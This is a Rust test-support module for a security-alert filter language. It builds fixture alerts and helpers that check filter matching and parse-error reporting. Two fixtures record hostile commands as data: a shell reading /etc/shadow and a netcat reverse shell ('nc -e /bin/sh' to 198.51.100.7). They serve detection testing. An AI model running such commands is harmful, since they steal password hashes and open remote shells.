//! Tables of what filters mean, on a small set of alerts of our own.

mod completion;
mod grammar;
mod meaning;
mod names;
mod own;

use super::{Filter, Names};
use crate::model::{Alert, Priority, Value};

/// An alert from the JSON of its output fields.
pub(super) fn alert(fields: &str) -> Alert {
    let mut alert = Alert::default();
    let parsed: serde_json::Value = serde_json::from_str(fields).unwrap();
    for (key, value) in parsed.as_object().unwrap() {
        alert.fields.set(key, value_of(value));
    }
    alert
}

fn value_of(value: &serde_json::Value) -> Value {
    match value {
        serde_json::Value::Null => Value::Null,
        serde_json::Value::Bool(value) => Value::Bool(*value),
        serde_json::Value::Number(number) => Value::Number(number.to_string().into()),
        serde_json::Value::String(text) => Value::String(text.as_str().into()),
        serde_json::Value::Array(items) => Value::Array(items.iter().map(value_of).collect()),
        serde_json::Value::Object(members) => Value::Object(
            members.iter().map(|(key, value)| (key.as_str().into(), value_of(value))).collect(),
        ),
    }
}

/// A shell read the shadow file, in a container.
pub(super) fn reader() -> Alert {
    let mut alert = alert(
        r#"{"proc.name":"cat","proc.pname":"sh","proc.aname[2]":"sshd","proc.aname[3]":null,"proc.pid":4242,"proc.ppid":4000,
        "proc.cmdline":"cat -n /etc/shadow","proc.args":"-n /etc/shadow","proc.exepath":"/bin/busybox","proc.tty":34816,
        "user.name":"root","user.uid":0,"user.loginuid":-1,"user.loginname":"<NA>","fd.name":"/etc/shadow",
        "fd.filename":"shadow","fd.directory":"/etc","container.id":"0ddba11cafe0","container.name":"shop-web",
        "container.image.repository":"registry.test/shop/web","evt.type":"openat","evt.res":"SUCCESS","evt.rawres":3,
        "evt.arg.flags":"O_RDONLY|O_CLOEXEC","evt.time":1700000000123456789,"proc.is_exe_upper_layer":false,
        "fd.types":["file","pipe"],"proc.env[HOME]":"/root","proc.cwd":""}"#,
    );
    alert.rule = Some("Somebody reads secrets".into());
    alert.priority = Some(Priority::Warning);
    alert.time = Some("2023-11-14T22:13:20.123456789Z".parse().unwrap());
    alert.event_source = Some("syscall".into());
    alert.hostname = Some("node-7".into());
    alert.output = Some("Warning: somebody reads secrets (user=root file=/etc/shadow)".into());
    alert.tags = vec!["filesystem".into(), "container".into()];
    alert
}

/// A program talks to an address far away, on the host.
pub(super) fn caller() -> Alert {
    let mut alert = alert(
        r#"{"proc.name":"Nc","proc.pname":null,"proc.pid":77,"proc.cmdline":"Nc -e /bin/sh 198.51.100.7 4444",
        "proc.args":"-e /bin/sh 198.51.100.7 4444","proc.exepath":"/usr/bin/nc","user.name":"","user.uid":4294967295,
        "fd.name":"10.0.0.5:51000->198.51.100.7:443","fd.cip":"10.0.0.5","fd.sip":"198.51.100.7","fd.cport":51000,
        "fd.sport":443,"fd.sproto":"443","fd.l4proto":"tcp","container.id":"host","evt.type":"connect","evt.failed":true,
        "evt.rawres":-115,"evt.buffer":"GET / HTTP/1.1","fd.types":null,"proc.is_exe_upper_layer":true}"#,
    );
    alert.rule = Some("Somebody calls far away".into());
    alert.priority = Some(Priority::Critical);
    alert.time = Some("2023-11-15T08:00:00Z".parse().unwrap());
    alert
}

/// Only the name of the connection was printed, in IPv6.
pub(super) fn terse() -> Alert {
    alert(
        r#"{"fd.name":"2001:db8::5:41000->2001:db8::1:22","proc.name":"ssh","fd.types":[],"proc.cwd":"<NA>"}"#,
    )
}

/// Which of the three alerts match: `r`eader, `c`aller, `t`erse.
#[track_caller]
pub(super) fn check(expr: &str, expected: &str) {
    let filter = match Filter::parse(expr, &Names::default()) {
        Ok(filter) => filter,
        Err(error) => panic!("{expr}: {error}"),
    };
    let alerts = [('r', reader()), ('c', caller()), ('t', terse())];
    let matched: String =
        alerts.iter().filter(|(_, alert)| filter.matches(alert)).map(|(name, _)| *name).collect();
    assert_eq!(matched, expected, "{expr}");
}

/// The piece that is marked, what the message holds, and the suggestion.
#[track_caller]
pub(super) fn refused(expr: &str, piece: &str, message: &str, suggestion: Option<&str>) {
    match Filter::parse(expr, &Names::default()) {
        Ok(_) => panic!("{expr} was accepted"),
        Err(error) => {
            let marked = expr.get(error.range()).unwrap_or("(not a range)");
            assert_eq!(marked, piece, "{expr}: {error}");
            assert!(error.to_string().contains(message), "{expr}: {error}");
            assert_eq!(error.suggestion.as_deref(), suggestion, "{expr}: {error}");
        }
    }
}
